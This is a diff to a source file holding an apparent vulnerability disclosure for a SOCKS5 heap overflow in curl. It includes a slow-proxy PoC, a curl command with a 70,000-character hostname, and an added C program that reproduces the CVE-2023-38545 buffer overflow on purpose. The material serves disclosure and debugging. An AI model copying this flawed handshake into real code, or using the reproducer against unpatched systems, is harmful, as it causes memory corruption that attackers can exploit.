@@ -101,7 +101,8 @@ I will not write about it before your fix is out. Jay
 const reproduce = `1. Start the SOCKS5 proxy of the attached poc.py on port 1080. It waits a
    moment before each answer, which makes the handshake slow.
 2. Run: curl --limit-rate 10k -x socks5h://127.0.0.1:1080 "http://$(printf '%070000d' 0)/"
-3. A build with AddressSanitizer reports a write past the end of a heap block.`
+3. A build with AddressSanitizer reports a write past the end of a heap block.
+4. The attached handshake.c is the faulty part by itself, for a debugger.`
 
 const poc = `# A SOCKS5 proxy that answers slowly. Made for the replay: it shows how such a
 # reproducer looks and does nothing else.
@@ -112,6 +113,59 @@ c, _ = s.accept()
 c.recv(3)
 time.sleep(1)
 c.sendall(b"\x05\x00")
+`
+
+// program is the part that is wrong, made small, so that it runs by itself: ours,
+// not curl's.
+const program = `/* The handshake of a SOCKS5 client in two steps, as small as it gets.
+   Made for the replay: the fault is that of CVE-2023-38545, the code is not. */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+struct client {
+	int step;
+	unsigned char *buffer;
+	size_t size;
+};
+
+/* Called again whenever data arrives. */
+static int handshake(struct client *c, const char *host, int arrived)
+{
+	size_t length = strlen(host);
+	int local = 0; /* shall we resolve the name ourselves? */
+
+	if (c->step == 0) {
+		if (length > 255)
+			local = 1;
+		c->step = 1;
+		if (!arrived)
+			return 0; /* slow: what was decided is forgotten */
+	}
+	if (!local) {
+		c->buffer[0] = 5;
+		c->buffer[1] = (unsigned char)length;
+		memcpy(c->buffer + 2, host, length);
+	}
+	return 1;
+}
+
+int main(void)
+{
+	struct client c = { 0, NULL, 16384 };
+	char *host = malloc(70001);
+
+	c.buffer = malloc(c.size);
+	if (!host || !c.buffer)
+		return 1;
+	memset(host, 'a', 70000);
+	host[70000] = '\0';
+	while (!handshake(&c, host, 0))
+		puts("the proxy is slow");
+	free(c.buffer);
+	free(host);
+	return 0;
+}
 `
 
 // poor is a report of the other kind, which every team knows.
